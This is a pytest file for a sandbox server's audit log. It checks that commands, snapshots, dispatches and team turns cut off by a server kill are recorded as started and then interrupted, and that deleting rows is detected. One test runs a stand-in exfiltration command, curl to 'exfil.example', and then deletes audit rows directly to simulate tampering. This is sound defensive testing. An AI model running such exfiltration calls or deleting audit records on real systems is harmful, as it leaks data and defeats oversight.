"""The record of what ran survives a crash: `dockyard serve --http` is killed with SIGKILL while
a command, a snapshot or a dispatch run is under way, restarted on the same data dir, and the
audit (read through the official client with a tenant's token) shows the action started and
then interrupted, with the chain still intact by audit_verify and `dockyard audit verify`."""

from __future__ import annotations

import os
import sqlite3
from collections.abc import Awaitable, Callable
from contextlib import closing
from typing import Any

import anyio
import docker
import pytest

from tests.conftest import call, make_settings, remove_instance, sandbox_row
from tests.served import DOCKYARD, Served, connect, mint, serve, stop

pytestmark = pytest.mark.anyio

TENANT_SCOPES = ["sandbox:create", "sandbox:exec", "sandbox:files", "dispatch:create", "dispatch:read", "audit:read"]


def started_rows(served: Served, kind: str) -> list[tuple[int, str | None]]:
    """Started rows of `kind` no row has ended yet, read from the server's SQLite file."""
    with closing(sqlite3.connect(served.data_dir / "dockyard.db")) as db:
        return db.execute(
            "SELECT id, target FROM auditevent WHERE kind = ? AND outcome = 'started' AND id NOT IN "
            "(SELECT json_extract(detail, '$.started_id') FROM auditevent WHERE outcome != 'started' "
            "AND json_extract(detail, '$.started_id') IS NOT NULL)",
            (kind,),
        ).fetchall()


async def kill_during(
    served: Served, token: str, action: Callable[[Any], Awaitable[Any]], until: Callable[[], bool]
) -> None:
    """Start `action` on its own session, wait (bounded) until `until()` holds, then SIGKILL the server."""
    failures: list[BaseException] = []

    async def act() -> None:
        try:
            async with connect(served, token) as client:
                await action(client)
        except Exception as exc:  # noqa: BLE001 - the server dies under the call: its session ends with an error
            failures.append(exc)

    async with anyio.create_task_group() as tg:
        tg.start_soon(act)
        with anyio.fail_after(60):
            while not until():
                await anyio.sleep(0.05)
        stop(served, kill=True)
        await anyio.sleep(0.5)
        tg.cancel_scope.cancel()
    assert served.process.returncode == -9


async def cli_verify(served: Served) -> tuple[int, str]:
    env = {**os.environ, "DOCKYARD_DATA_DIR": str(served.data_dir)}
    env.pop("DOCKYARD_CONFIG", None)
    done = await anyio.run_process([DOCKYARD, "audit", "verify"], env=env, check=False)
    return done.returncode, done.stdout.decode()


async def after_restart(
    served: Served, docker_client: docker.DockerClient, check: Callable[[Served], Awaitable[None]]
) -> None:
    """Start the server again on the same data dir, run `check`, stop it and remove its containers."""
    again = serve(served.data_dir, served.env)
    try:
        await check(again)
    finally:
        stop(again)
        remove_instance(docker_client, make_settings(served.data_dir))


def pair(rows: list[dict[str, Any]], kind: str, target: str) -> tuple[dict[str, Any], dict[str, Any]]:
    """The started row of `kind` on `target` and the row that ended it (rows newest first)."""
    [started] = [r for r in rows if r["kind"] == kind and r["target"] == target and r["outcome"] == "started"]
    [ended] = [r for r in rows if r["detail"].get("started_id") == started["id"]]
    return started, ended


async def test_a_server_killed_mid_command_leaves_the_command_started_then_interrupted_on_the_tenants_record(
    serve_http: Any, docker_client: docker.DockerClient
) -> None:
    served = serve_http()
    tenant = await mint(served, scopes=TENANT_SCOPES, workspace_id="acme", user_id="alice")
    async with connect(served, tenant["token"]) as client:
        box = (await call(client, "sandbox_create"))["sandbox_id"]
    command = "echo ran > /workspace/proof; sleep 120"

    async def run(client: Any) -> None:
        await client.call_tool("sandbox_exec", {"sandbox_id": box, "command": command, "timeout_s": 300})

    container = docker_client.containers.get(sandbox_row(make_settings(served.data_dir), box).container_id)

    def ran() -> bool:  # its row says started, and the command has written its file
        return (
            bool(started_rows(served, "sandbox.exec"))
            and container.exec_run(["test", "-f", "/workspace/proof"]).exit_code == 0
        )

    await kill_during(served, tenant["token"], run, ran)

    async def check(again: Served) -> None:
        async with connect(again, tenant["token"]) as client:
            # the command ran: its file is there
            assert (await call(client, "sandbox_read_file", sandbox_id=box, path="proof"))["content"] == "ran\n"
            rows = (await call(client, "audit_query", details=True, kind="sandbox.exec"))["rows"]
            started, ended = pair(rows, "sandbox.exec", box)
            assert started["detail"]["command"] == command
            assert ended["outcome"] == "interrupted" and ended["id"] > started["id"]
            assert "stopped before the action ended" in ended["detail"]["error"]
            assert {(r["workspace_id"], r["user_id"], r["token_id"]) for r in (started, ended)} == {
                ("acme", "alice", tenant["token_id"])
            }
            verdict = await call(client, "audit_verify")
            assert (verdict["intact"], verdict["findings"]) == (True, [])
        code, out = await cli_verify(again)
        assert code == 0 and out.startswith("audit log intact:"), out

    await after_restart(served, docker_client, check)


async def test_a_server_killed_mid_snapshot_leaves_the_snapshot_started_then_interrupted(
    serve_http: Any, docker_client: docker.DockerClient
) -> None:
    served = serve_http()
    tenant = await mint(served, scopes=TENANT_SCOPES, workspace_id="acme", user_id="alice")
    async with connect(served, tenant["token"]) as client:
        box = (await call(client, "sandbox_create"))["sandbox_id"]
        # enough data that the archive is still being written when the server dies
        big = await call(
            client, "sandbox_exec", sandbox_id=box, command="head -c 300M /dev/urandom > /workspace/big && echo ok"
        )
        assert big["stdout"] == "ok\n"

    async def snapshot(client: Any) -> None:
        await client.call_tool("sandbox_snapshot", {"sandbox_id": box, "label": "before the crash"})

    await kill_during(served, tenant["token"], snapshot, lambda: bool(started_rows(served, "sandbox.snapshot")))

    async def check(again: Served) -> None:
        async with connect(again, tenant["token"]) as client:
            rows = (await call(client, "audit_query", details=True, kind="sandbox.snapshot"))["rows"]
            started, ended = pair(rows, "sandbox.snapshot", box)
            assert started["detail"]["label"] == "before the crash"
            assert ended["outcome"] == "interrupted"
            assert (await call(client, "audit_verify"))["intact"] is True
        assert (await cli_verify(again))[0] == 0

    await after_restart(served, docker_client, check)


async def test_a_server_killed_mid_dispatch_leaves_the_run_and_its_command_started_then_interrupted(
    serve_http: Any, docker_client: docker.DockerClient
) -> None:
    served = serve_http()
    tenant = await mint(served, scopes=TENANT_SCOPES, workspace_id="acme", user_id="alice")
    async with connect(served, tenant["token"]) as client:
        sent = await call(
            client,
            "dispatch",
            mode="remote",
            rationale="a long job",
            task_summary="write and wait",
            prompt="echo ran > /workspace/proof; sleep 120",
        )
    dispatch_id = sent["dispatch_id"]

    async def nothing(client: Any) -> None:
        await anyio.sleep_forever()

    await kill_during(served, tenant["token"], nothing, lambda: bool(started_rows(served, "sandbox.exec")))

    async def check(again: Served) -> None:
        async with connect(again, tenant["token"]) as client:
            after = await call(client, "await_dispatch", dispatch_id=dispatch_id, timeout_s=5)
            assert after["status"] == "interrupted"
            rows = (await call(client, "audit_query", details=True))["rows"]
            started, ended = pair(rows, "dispatch.run", dispatch_id)
            assert started["detail"] == {"mode": "remote", "runner": "script"}
            assert ended["outcome"] == "interrupted"
            [exec_started] = [r for r in rows if r["kind"] == "sandbox.exec" and r["outcome"] == "started"]
            assert [r["outcome"] for r in rows if r["detail"].get("started_id") == exec_started["id"]] == [
                "interrupted"
            ]
            assert (await call(client, "audit_verify"))["intact"] is True
        assert (await cli_verify(again))[0] == 0

    await after_restart(served, docker_client, check)


async def test_a_server_killed_mid_team_turn_leaves_the_turn_started_then_interrupted(
    serve_http: Any, docker_client: docker.DockerClient
) -> None:
    served = serve_http()
    lead = await mint(served, scopes=[*TENANT_SCOPES, "team:lead"], workspace_id="acme", user_id="alice")
    async with connect(served, lead["token"]) as client:
        team = (await call(client, "team_create", name="night shift"))["team_id"]
        await call(client, "team_spawn", team_id=team, role="worker", prompt="echo ran > /workspace/proof; sleep 120")

    async def nothing(client: Any) -> None:
        await anyio.sleep_forever()

    await kill_during(served, lead["token"], nothing, lambda: bool(started_rows(served, "sandbox.exec")))

    async def check(again: Served) -> None:
        async with connect(again, lead["token"]) as client:
            rows = (await call(client, "audit_query", details=True))["rows"]
            started, ended = pair(rows, "team.turn", team)
            assert started["detail"] == {"member": "worker", "turn": 1}
            assert ended["outcome"] == "interrupted"
            assert (await call(client, "audit_verify"))["intact"] is True
        assert (await cli_verify(again))[0] == 0

    await after_restart(served, docker_client, check)


async def test_rows_cut_from_a_running_servers_database_stay_reported_over_http_while_the_server_works_on(
    serve_http: Any,
) -> None:
    """An attacker with the database file deletes a tenant's newest rows under a running server;
    the operator's audit_verify over HTTP names the cut, and it still does after more work,
    because the server never signs a head over a table that no longer extends it."""
    served = serve_http()
    tenant = await mint(served, scopes=TENANT_SCOPES, workspace_id="acme", user_id="alice")
    async with connect(served, tenant["token"]) as client:
        box = (await call(client, "sandbox_create"))["sandbox_id"]
        await call(client, "sandbox_exec", sandbox_id=box, command="curl -s http://exfil.example || true")
        with closing(sqlite3.connect(served.data_dir / "dockyard.db")) as db:
            [(last,)] = db.execute("SELECT max(id) FROM auditevent").fetchall()
            db.execute("DELETE FROM auditevent WHERE id > ?", (last - 2,))  # the command's two rows
            db.commit()
        async with connect(served, served.admin_key) as admin:
            verdict = await call(admin, "audit_verify")
            assert (verdict["intact"], [f["kind"] for f in verdict["findings"]]) == (False, ["truncated"])
            assert f"rows {last - 1}..{last} were cut from the tail" in verdict["reason"]
            await call(client, "sandbox_exec", sandbox_id=box, command="true")  # the server goes on working
            verdict = await call(admin, "audit_verify")
            assert (verdict["intact"], [f["kind"] for f in verdict["findings"]]) == (False, ["truncated"])
            assert f"row {last} is not the row the signed head names" in verdict["reason"]
